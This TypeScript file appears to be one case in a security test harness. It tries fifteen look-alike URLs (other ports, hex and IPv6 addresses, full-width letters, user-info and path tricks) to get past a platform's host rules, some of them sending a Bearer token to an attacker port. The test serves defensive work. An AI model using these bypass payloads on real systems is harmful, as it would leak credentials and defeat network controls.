import type { Attack } from './harness/attack.js';

export const attack: Attack = {
  title: 'look-alike hosts: other ports, names, dots, user names, the same server by another name',
  from: 'kernel',
  script: async ({ platform, evilPort, handles }, kit) => {
    const { port } = new URL(platform);
    const urls: Record<string, string> = {
      'another port': `http://localhost:${evilPort}/api/v1/x`,
      'an address': `http://127.0.0.1:${evilPort}/api/v1/x`,
      'the same server by its address': `http://127.0.0.1:${port}/api/v1/x`,
      'another address of it': `http://[::1]:${port}/api/v1/x`,
      'a name that begins alike': `http://localhost.localhost:${evilPort}/api/v1/x`,
      'a name that ends alike': `http://evil.localhost:${evilPort}/api/v1/x`,
      'a dot at the end': `http://localhost.:${evilPort}/api/v1/x`,
      'a name in other letters': `http://LOCALHOST:${evilPort}/api/v1/x`,
      'wide letters': `http://ｌocalhost:${evilPort}/api/v1/x`,
      'an address in hexadecimal': `http://0x7f.1:${evilPort}/api/v1/x`,
      'the API in the path': `http://localhost:${evilPort}/http://localhost:${port}/api/v1/x`,
      'the API in the query': `http://localhost:${evilPort}/api/v1/x?${platform}api/v1/x`,
      'the API as a user name': `http://localhost:${port}@127.0.0.1:${evilPort}/api/v1/x`,
      'a user name before the API': `http://user:pass@localhost:${port}/api/v1/x`,
      'another scheme': `https://localhost:${port}/api/v1/x`,
    };
    const seen: unknown[] = [];
    for (const [name, url] of Object.entries(urls)) {
      seen.push(await kit.call(name, url));
      seen.push(await kit.call(name, url, { headers: { authorization: `Bearer ${handles.own}` } }));
      seen.push(kit.xhr(name, url));
    }
    return seen;
  },
  fromWeak: [
    'another port sent one to a server of no rule',
    'an address sent one to a server of no rule',
    'the same server by its address called what the rules forbid (GET)',
    'the API in the query sent one to a server of no rule',
  ],
};
